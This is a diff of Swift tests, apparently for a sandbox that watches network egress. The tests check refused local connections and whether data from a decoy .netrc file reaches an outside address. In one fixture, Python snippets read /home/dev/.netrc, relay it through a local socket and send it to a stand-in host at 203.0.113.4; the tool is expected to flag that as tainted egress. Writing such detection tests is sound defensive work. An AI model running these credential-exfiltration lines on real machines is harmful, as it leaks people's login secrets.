@@ -53,6 +53,70 @@ struct BoxNetworkTests {
     let result = try box.run()
     #expect(result.lines == ["b'own'", "\(ECONNREFUSED)"])
     #expect(box.network.stop().isEmpty)
+    let refused = ObservedAction.connect(transport: .tcp, endpoint: .init(address: "127.0.0.1", port: 1))
+    #expect(result.events.contains { $0.action == refused })
+  }
+
+  @Test(
+    "tells of what is sought on the own machine, and refuses it as a real one does", arguments: ["127.0.0.1", "::1"])
+  func nobodyListens(address: String) throws {
+    // The sink listens for 8080 of every address by then, and still not there.
+    let box = TestBox.python(
+      """
+      import socket
+      socket.create_connection(("203.0.113.4", 8080), timeout=5).close()
+      for port in (8080, 9050):
+        try: socket.create_connection(("\(address)", port), timeout=5); print("reached")
+        except OSError as error: print(error.errno)
+      """
+    ).decoy(".netrc")
+    let result = try box.run()
+    #expect(result.lines == ["\(ECONNREFUSED)", "\(ECONNREFUSED)"])
+    for port in [8080, 9050] as [UInt16] {
+      let action = ObservedAction.connect(transport: .tcp, endpoint: .init(address: address, port: port))
+      #expect(result.events.contains { $0.action == action })
+    }
+    #expect(box.network.stop().count == 1)
+  }
+
+  @Test(
+    "follows what a decoy says through a server of the box's own",
+    arguments: [
+      ("socket.socket()", "('127.0.0.1', 0)"), ("socket.socket()", "('127.0.0.1', 7070)"),
+      ("socket.socket(socket.AF_UNIX)", "'/tmp/server'"),
+    ])
+  func throughServer(socket: String, address: String) throws {
+    let box = TestBox.python(
+      """
+      import os, socket
+      server = \(socket); server.bind(\(address)); server.listen()
+      if os.fork() == 0:
+        # It closes what it shares with its parent, who has opened nothing.
+        where = server.getsockname(); server.close()
+        client = \(socket); client.connect(where); client.sendall(open("/home/dev/.netrc", "rb").read()); os._exit(0)
+      got = server.accept()[0].recv(99)
+      socket.create_connection(("203.0.113.4", 443), timeout=5).sendall(got)
+      """
+    ).decoy(".netrc")
+    let result = try box.run()
+    #expect(result.errorText == "")
+    let proof = try #require(result.evidence.first { $0.level == .taintedEgress })
+    #expect(proof.decoys == [".netrc"])
+    #expect(proof.detail.contains("203.0.113.4"))
+    #expect(result.evidence.count { $0.level == .taintedEgress } == 1)
+  }
+
+  @Test("takes nobody for a thief who asks where a thief asked too, and nobody serves")
+  func sharedNothing() throws {
+    let result = try TestBox.shell(
+      #"""
+      python3 -c 'import socket; open("/home/dev/.netrc").read(); socket.socket(1).connect_ex("/run/nscd/socket")'
+      python3 -c 'import socket; socket.socket(1).connect_ex("/run/nscd/socket"); socket.create_connection(("203.0.113.7", 443)).close()'
+      """#
+    ).decoy(".netrc").run()
+    #expect(result.errorText == "")
+    #expect(result.touched == [".netrc"])
+    #expect(!result.has(.taintedEgress))
   }
 
   @Test("serves a port that a program of the box has taken at another address")
